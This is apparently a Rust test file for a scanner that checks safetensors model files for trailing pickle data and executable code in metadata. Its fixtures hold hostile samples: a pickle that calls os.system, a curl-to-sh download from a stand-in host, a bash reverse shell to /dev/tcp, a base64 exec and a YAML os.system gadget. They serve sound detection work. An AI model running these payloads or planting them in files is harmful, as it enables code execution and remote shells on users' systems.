//! safetensors files are validated from their header alone, and read as a
//! pickle only to catch a file that is both.

#![cfg(test)]

use rampart_scan::Scanner;

fn file(header: &str, data: usize, trailing: &[u8]) -> Vec<u8> {
    let mut h = header.as_bytes().to_vec();
    while h.len() % 8 != 0 {
        h.push(b' ');
    }
    let mut f = (h.len() as u64).to_le_bytes().to_vec();
    f.extend_from_slice(&h);
    f.resize(f.len() + data, 0);
    f.extend_from_slice(trailing);
    f
}

fn rules(f: &[u8]) -> Vec<String> {
    Scanner::default()
        .scan_bytes("m.safetensors", f)
        .into_iter()
        .map(|f| f.rule)
        .collect()
}

#[test]
fn header_lengths_that_look_like_pickle_opcodes_are_clean() {
    // 0x80 0x00 / 0x80 0x01 are PROTO 0 / PROTO 1 to a pickle reader.
    for len in [128usize, 384] {
        let mut header = r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#.to_string();
        while header.len() < len {
            header.push(' ');
        }
        let f = file(&header, 4, b"");
        assert_eq!(f.first(), Some(&0x80));
        assert!(rules(&f).is_empty(), "{len}: {:?}", rules(&f));
    }
}

#[test]
fn valid_file_is_clean_and_tensor_bytes_can_be_anything() {
    let h = r#"{"__metadata__":{"format":"pt"},"w":{"dtype":"F16","shape":[2,2],"data_offsets":[0,8]}}"#;
    let mut f = file(h, 0, b"");
    // Tensor bytes that would be a payload to a pickle reader.
    f.extend_from_slice(b"cos\nsys\n");
    assert!(rules(&f).is_empty(), "{:?}", rules(&f));
}

#[test]
fn appended_payload_is_found() {
    let h = r#"{"w":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}"#;
    let f = file(h, 2, b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.");
    let r = rules(&f);
    assert!(
        r.contains(&"SAFETENSORS-TRAILING-DATA".to_string()),
        "{r:?}"
    );
    assert!(r.contains(&"PICKLE-EXEC".to_string()), "{r:?}");
}

#[test]
fn truncated_data_section_is_invalid() {
    let h = r#"{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}"#;
    let r = rules(&file(h, 8, b""));
    assert_eq!(r, vec!["SAFETENSORS-INVALID"]);
}

#[test]
fn code_in_metadata_is_reported_ordinary_metadata_is_not() {
    let tensor = r#""a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}"#;
    for meta in [
        r#"{"model_info":"import os; os.system('echo pwned')"}"#,
        r#"{"x":"exec(base64.b64decode('aW1wb3J0IG9z'))"}"#,
        r#"{"setup":"curl http://example.invalid/x | sh"}"#,
        r#"{"card":"<script>alert(1)</script>"}"#,
        r#"{"x":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#,
        r#"{"x":"!!python/object/apply:os.system ['id']"}"#,
    ] {
        let f = file(&format!(r#"{{"__metadata__":{meta},{tensor}}}"#), 4, b"");
        assert_eq!(rules(&f), vec!["METADATA-CODE"], "{meta}");
    }
    // What real files carry: a format, a licence, training arguments, URLs.
    let meta = r#"{"format":"pt","license":"apache-2.0","source":"https://huggingface.co/x/y","eval_steps":"500","evaluation":"exact match","note":"Call model.eval() before inference."}"#;
    let f = file(&format!(r#"{{"__metadata__":{meta},{tensor}}}"#), 4, b"");
    assert!(rules(&f).is_empty(), "{:?}", rules(&f));
}
